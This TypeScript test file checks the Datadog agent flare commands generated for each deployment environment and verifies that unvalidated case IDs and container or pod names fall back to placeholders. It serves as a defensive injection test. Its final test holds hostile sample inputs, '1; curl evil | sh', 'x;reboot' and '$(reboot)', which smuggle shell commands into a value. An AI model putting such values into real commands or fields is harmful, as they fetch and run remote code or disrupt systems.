// The flare commands per environment (DataDog/documentation send_a_flare.md; `--local` from
// datadog-agent cmd/agent/subcommands/flare/command.go), and that nothing unvalidated reaches
// a command the user pastes into a shell.
import {describe, expect, it} from 'vitest';
import type {StatusResult} from '../../../shared/agent/status-types';
import {flareSteps} from '../../../shared/bundle/index';
import {ENVS, type Env} from '../../../shared/engine/types';
import {messages} from '../../../shared/i18n/index';

const commands = (env: Env, status?: StatusResult, caseId?: string) => flareSteps(env, status, caseId).steps.flatMap((s) => s.commands);
const statusIn = (vantage: StatusResult['vantage']): StatusResult => ({v: 1, vantage, command: null, container: null, format: null, agentVersion: null, apm: null, error: null, rawSection: null});

describe('flare commands per environment', () => {
  const rows: {env: Env; has: string[]; why: string}[] = [
    {env: 'host', has: ['sudo datadog-agent flare <CASE_ID>'], why: 'Linux packages (docs: CentOS, Debian, …)'},
    {env: 'beanstalk-single', has: ['sudo datadog-agent flare <CASE_ID>'], why: 'the agent runs on the instance, the app reaches it via the gateway IP'},
    {env: 'docker', has: ['docker exec -it <AGENT_CONTAINER> agent flare <CASE_ID>'], why: 'docs: Docker'},
    {env: 'ecs-ec2', has: ['docker exec -it <AGENT_CONTAINER> agent flare <CASE_ID>'], why: 'the agent container on the EC2 instance'},
    {env: 'beanstalk-multi', has: ['docker exec -it <AGENT_CONTAINER> agent flare <CASE_ID>'], why: 'the agent container beside the app'},
    {
      env: 'kubernetes',
      has: ['kubectl exec -it <AGENT_POD> -c agent -- agent flare <CASE_ID>', 'kubectl exec -it <AGENT_POD> -c trace-agent -- agent flare <CASE_ID> --local'],
      why: 'docs: dedicated containers; the trace-agent container needs --local',
    },
    {env: 'eks', has: ['kubectl exec -it <AGENT_POD> -c trace-agent -- agent flare <CASE_ID> --local'], why: 'same as Kubernetes'},
    {env: 'ecs-fargate', has: ['aws ecs execute-command --cluster <CLUSTER_NAME> --task <TASK_ID> --container datadog-agent --interactive --command "agent flare <CASE_ID>"'], why: 'docs: ECS Fargate (ECS Exec)'},
    {env: 'eks-fargate', has: ['kubectl exec -it <APP_POD> -c <AGENT_SIDECAR> -- agent flare <CASE_ID>'], why: 'the agent is a sidecar of the app pod'},
    {env: 'unknown', has: ['sudo datadog-agent flare <CASE_ID>', 'docker exec -it <AGENT_CONTAINER> agent flare <CASE_ID>', 'kubectl exec -it <AGENT_POD> -c trace-agent -- agent flare <CASE_ID> --local'], why: 'every kind, pick one'},
  ];
  it.each(rows)('$env: $why', ({env, has}) => {
    const got = commands(env);
    for (const c of has) expect(got).toContain(c);
  });

  it('covers every environment, with titles and notes that exist in both languages', () => {
    expect(rows.map((r) => r.env).sort()).toEqual([...ENVS].sort());
    const keys = ENVS.flatMap((env) => flareSteps(env, undefined, undefined).steps.flatMap((s) => [s.title.key, ...(s.note ? [s.note.key] : [])]));
    expect(keys.filter((k) => !(k in messages))).toEqual([]);
  });

  it('puts a valid case id and the names agent status ran against into the commands', () => {
    expect(commands('docker', statusIn({kind: 'docker', container: 'dd-agent'}), '123456')).toEqual(['docker exec -it dd-agent agent flare 123456']);
    expect(commands('kubernetes', statusIn({kind: 'k8s', pod: 'datadog-x7k2p', namespace: 'datadog', context: 'kind-dev'}), '7')).toEqual([
      'kubectl exec -it -n datadog --context kind-dev datadog-x7k2p -c agent -- agent flare 7',
      'kubectl exec -it -n datadog --context kind-dev datadog-x7k2p -c trace-agent -- agent flare 7 --local',
    ]);
  });

  const hostile = [
    {why: 'a case id with shell syntax', env: 'host' as Env, status: undefined, caseId: '1; curl evil | sh'},
    {why: 'a container name with shell syntax', env: 'docker' as Env, status: statusIn({kind: 'docker', container: 'x;reboot'}), caseId: undefined},
    {why: 'a pod name with $()', env: 'kubernetes' as Env, status: statusIn({kind: 'k8s', pod: '$(reboot)'}), caseId: undefined},
  ];
  it.each(hostile)('falls back to placeholders for $why', ({env, status, caseId}) => {
    const got = commands(env, status, caseId).join('\n');
    expect(got).not.toMatch(/;|\$\(|curl evil|reboot/);
    expect(got).toMatch(/<CASE_ID>|<AGENT_CONTAINER>|<AGENT_POD>/);
  });
});
